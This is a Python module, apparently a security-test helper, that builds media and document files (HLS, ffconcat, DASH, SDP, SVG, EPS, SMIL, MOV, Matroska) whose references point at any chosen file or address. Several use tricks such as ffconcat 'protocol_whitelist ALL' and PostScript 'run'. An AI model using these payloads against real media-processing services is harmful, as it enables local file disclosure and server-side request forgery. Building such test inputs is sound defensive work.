"""Files that name other files and addresses, as people with bad intentions make them."""

import struct
from collections.abc import Callable

PLAYLISTS: dict[str, Callable[[str], str]] = {
    "hls": lambda to: f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{to}\n#EXT-X-ENDLIST\n",
    "hls_key": lambda to: f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{to}"\n#EXTINF:1,\n{to}\n#EXT-X-ENDLIST\n',
    "hls_map": lambda to: f'#EXTM3U\n#EXT-X-MAP:URI="{to}"\n#EXTINF:1,\n{to}\n#EXT-X-ENDLIST\n',
    "hls_master": lambda to: f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{to}\n",
    "hls_concat": lambda to: f"#EXTM3U\n#EXTINF:1,\nconcat:{to}|{to}\n#EXT-X-ENDLIST\n",
    "hls_subfile": lambda to: f"#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,0,,:{to}\n#EXT-X-ENDLIST\n",
    "hls_crypto": lambda to: f"#EXTM3U\n#EXTINF:1,\ncrypto+{to}\n#EXT-X-ENDLIST\n",
    "ffconcat": lambda to: f"ffconcat version 1.0\nfile '{to}'\n",
    "ffconcat_options": lambda to: f"ffconcat version 1.0\nfile '{to}'\noption safe 0\noption protocol_whitelist ALL\n",
    "dash": lambda to: (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT1S"><Period><AdaptationSet contentType="video"><Representation id="0" '
        f'bandwidth="1" width="64" height="48"><BaseURL>{to}</BaseURL><SegmentBase/></Representation></AdaptationSet>'
        "</Period></MPD>"
    ),
    "sdp": lambda to: f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns={to}\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n",
    "redirector": lambda to: f"RTSPtext\r\n{to}\r\n[Reference]\r\nRef1={to}\r\n",
    "svg": lambda to: f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{to}" width="9" height="9"/></svg>',
    "eps": lambda to: f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({to}) run showpage\n",
    "filter": lambda to: f"movie={to}\n",
    "smil": lambda to: f'<smil><body><video src="{to}"/></body></smil>',
}


def reference_elsewhere(content: bytes, kind: bytes, target: str) -> bytes:
    """Return a mov file with its data reference made to point at `target`, all enclosing boxes made larger."""
    old = content.index(b"dref") + 12  # size, kind, version, count
    size = struct.unpack(">I", content[old : old + 4])[0]
    entry = alias(target) if kind == b"alis" else target.encode() + b"\0"
    new = struct.pack(">I4sI", 12 + len(entry), kind, 0) + entry
    changed = bytearray(content[:old] + new + content[old + size :])
    for box in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
        place = changed.index(box) - 4
        changed[place : place + 4] = struct.pack(
            ">I", struct.unpack(">I", changed[place : place + 4])[0] + len(new) - size
        )
    return bytes(changed)


def alias(target: str) -> bytes:
    """Return a Macintosh alias record that names a file by its whole path."""
    name = target.rpartition("/")[2].encode()[:27]
    volume = b"disk"
    head = struct.pack(">4sHHH", b"\0" * 4, 150, 2, 0) + bytes([len(volume)]) + volume.ljust(27, b"\0") + b"\0" * 12
    head += bytes([len(name)]) + name.ljust(63, b"\0") + b"\0" * 16 + struct.pack(">HH", 0, 0) + b"\0" * 16
    path = target.encode()
    records = struct.pack(">HH", 2, len(path)) + path + b"\0" * (len(path) % 2)
    records += struct.pack(">HH", 18, len(path)) + path + b"\0" * (len(path) % 2)
    return head + records + struct.pack(">HH", 0xFFFF, 0)


def linked_elsewhere(content: bytes, target: str) -> bytes:
    """Return a Matroska file that says it goes on in `target`."""
    place = content.index(b"\x15\x49\xa9\x66") + 4  # Info: its own length, then elements
    name = target.encode()
    linked = b"\x3e\xb9\x23\x90" + b"\x10" * 16  # NextUID
    linked += b"\x3e\x83\xbb" + bytes([0x40 | len(name) >> 8, len(name) & 255]) + name  # NextFilename
    width = 9 - content[place].bit_length()
    length = int.from_bytes(content[place : place + width], "big") & ((1 << 7 * width) - 1)
    longer = ((1 << 7 * 8) | (length + len(linked))).to_bytes(8, "big")
    return content[:place] + longer + linked + content[place + width :]
